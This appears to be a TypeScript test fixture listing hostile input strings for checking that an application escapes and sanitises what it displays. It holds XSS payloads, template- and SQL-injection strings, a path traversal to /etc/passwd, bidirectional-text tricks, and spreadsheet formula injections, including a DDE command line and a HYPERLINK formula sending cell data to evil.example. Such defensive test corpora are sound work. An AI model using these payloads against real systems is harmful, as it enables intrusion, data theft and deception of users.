// Texts with which somebody may try to break the code that shows them, or to deceive their reader.

/** If any of these run, they set a flag, open a dialog, or send a request to another host. */
const MARKUP = [
  '<script>window.pwned = true</script>',
  '<img src=x onerror="window.pwned=true">',
  '"><svg/onload=alert(1)>',
  `' onmouseover='alert(1)' x='`,
  '<iframe src="https://evil.example/"></iframe>',
  '</title></textarea></style><style>*{display:none}</style>',
  '<b>bold</b> &lt;i&gt; &amp;amp; &#x3C;script&#x3E;',
  '<a href="javascript:alert(1)">here</a>',
];
const ADDRESSES = [
  'javascript:window.pwned=true',
  'JaVaScRiPt:alert(1)//https://x',
  'data:text/html,<script>alert(1)</script>',
  'http://evil.example/pixel.png',
  '//evil.example/pixel.png',
  'https:evil',
];
const TEMPLATES = [
  '{{7*7}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it should look like one
  '${7*7}',
  '#{7*7}',
  '<%= 7*7 %>',
  '%s %d %n %x',
  '{{constructor.constructor("alert(1)")()}}',
];
const QUERIES = [
  "'; drop table withdrawals; --",
  `" or ""="`,
  '%_\\%',
  '$1 $$ \\x00 \\u0000',
  '../../etc/passwd',
  'null',
];
const WRITING = [
  '\u202ereversed \u202dforced\u202c \u2066isolated',
  'مرحبا بالعالم ‏(123) שלום',
  'zero\u200bwidth\u200djoined\ufeffmark\u2060word\u00adsoft',
  'Z\u0351\u036b\u0343\u036a\u0302\u0368\u0351\u036b\u0343\u036aa\u0335\u0328\u0321\u0335\u0328\u0321lgo'.repeat(4),
  '👩‍👩‍👧‍👦🏳️‍🌈👍🏿🇺🇳 ﷽﷽﷽ 𝕱𝖔𝖓𝖙',
  'line\nbreak\r\nand\u2028more\u2029\ttab',
];
const LONG = ['W'.repeat(10_000), 'ten thousand '.repeat(770), '<b>'.repeat(3_000), '﷽'.repeat(2_000)];
const FORMULAS = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  ' =1+1',
  '=HYPERLINK("https://evil.example?"&A1,"here")',
  "=cmd|' /C calc'!A1",
  'a;=1+1',
  'b\t=1+1',
  'c\n=1+1',
  'd,"=1+1',
  'e;"=1+1',
  'f;\n =1+1',
  '＝1+1',
];

export const CORPUS: readonly string[] = [
  ...MARKUP,
  ...ADDRESSES,
  ...TEMPLATES,
  ...QUERIES,
  ...WRITING,
  ...LONG,
  ...FORMULAS,
];

/** A hostile username: as long as the form allows, and lower case, as usernames are stored. */
export const HOSTILE_USERNAME =
  '<img src=x onerror="window.pwned=true">\u202e{{7*7}}wwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwww';
